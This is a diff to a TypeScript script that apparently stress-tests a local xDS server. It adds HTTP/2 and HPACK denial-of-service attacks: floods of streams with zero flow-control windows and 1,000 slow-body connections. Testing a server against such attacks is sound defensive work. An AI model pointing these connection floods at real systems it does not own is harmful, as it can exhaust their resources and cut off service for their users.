@@ -1,6 +1,6 @@
 // Run as a process of its own: PORT KIND MILLISECONDS. Attacks HTTP/2 and HPACK at the xDS listener at PORT of this
-// machine, without credentials, for a limited time. Prints `attacking` at the start, and the number of ended connections
-// at the end. `flood-xds.ts` has the attacks by requests.
+// machine, without credentials, until SIGTERM, or for the given time at most. Prints `attacking` at the start, and the
+// number of ended connections so far four times a second. `flood-xds.ts` has the attacks by requests.
 import { connect } from 'node:net';
 import type { Socket } from 'node:net';
 import {
@@ -48,7 +48,7 @@ interface Attack {
   readonly connections: number;
   /** The first bytes of each connection. */
   readonly first: Buffer;
-  /** The bytes that follow without end. `round` counts from 0. `undefined`: none. */
+  /** The bytes that follow, until there are none. `round` counts from 0. `undefined`: none. */
   readonly more?: (round: number) => Buffer;
   /** Sends a byte of `slowly` each 100 ms, in a circle. */
   readonly slowly?: Buffer;
@@ -77,7 +77,9 @@ function flood(socket: Socket, more: (round: number) => Buffer): void {
   let round = 0;
   const write = (): void => {
     if (socket.destroyed) return;
-    const accepted = socket.write(more(round));
+    const bytes = more(round);
+    if (bytes.length === 0) return;
+    const accepted = socket.write(bytes);
     round += 1;
     if (accepted) setImmediate(write);
   };
@@ -109,6 +111,7 @@ function streams(frames: (stream: number) => readonly Buffer[]): (round: number)
     Buffer.concat(Array.from({ length: 500 }, (_, index) => frames(3 + 2 * (round * 500 + index))).flat());
 }
 
+const nothing = Buffer.alloc(0);
 const start = Buffer.concat([hello, firstHeaders(1, ads)]);
 const odd = (count: number): readonly number[] => Array.from({ length: count }, (_, index) => 2 * index + 1);
 
@@ -181,6 +184,19 @@ const attacks: Readonly<Record<string, Attack>> = {
     first: Buffer.concat([helloWithWindow(0), firstHeaders(1, reflection), data(1, reflectionRequest)]),
     more: streams((stream) => [moreHeaders(stream), data(stream, repeated(reflectionRequest, 20))]),
   },
+  'zero-windows-trust': {
+    connections: 4,
+    first: Buffer.concat([helloWithWindow(0), firstHeaders(1, ads), data(1, subscription)]),
+    // As many streams as a connection may have, and no more.
+    more: (round) =>
+      round > 0
+        ? nothing
+        : Buffer.concat(
+            odd(250)
+              .slice(1)
+              .flatMap((stream) => [moreHeaders(stream), data(stream, subscription)]),
+          ),
+  },
   'announced-4-gb': {
     connections: 4,
     first: start,
@@ -207,12 +223,17 @@ const attacks: Readonly<Record<string, Attack>> = {
     first: Buffer.concat([hello, frame('headers', 4, 1, Buffer.alloc(10_000)).subarray(0, 9)]),
     slowly: Buffer.from([0x83]),
   },
+  'slow-bodies': {
+    connections: 1_000,
+    first: Buffer.concat([hello, firstHeaders(1, ads), data(1, Buffer.alloc(10_000)).subarray(0, 9)]),
+    // The beginning of a message of 10,000 bytes, and further bytes of it.
+    slowly: Buffer.concat([Buffer.from([0, 0, 0, 0x27, 0x10]), Buffer.alloc(9_000)]),
+  },
 };
 
 const attack = attacks[kind];
 if (attack === undefined) throw new Error(`no attack ${kind}`);
 for (let count = 0; count < attack.connections; count += 1) open(attack);
-setTimeout(() => {
-  console.log(`cut off ${cutOff} times`);
-  process.exit();
-}, milliseconds);
+setInterval(() => console.log(`cut off ${cutOff} times`), 250);
+process.on('SIGTERM', () => process.exit());
+setTimeout(() => process.exit(), milliseconds);
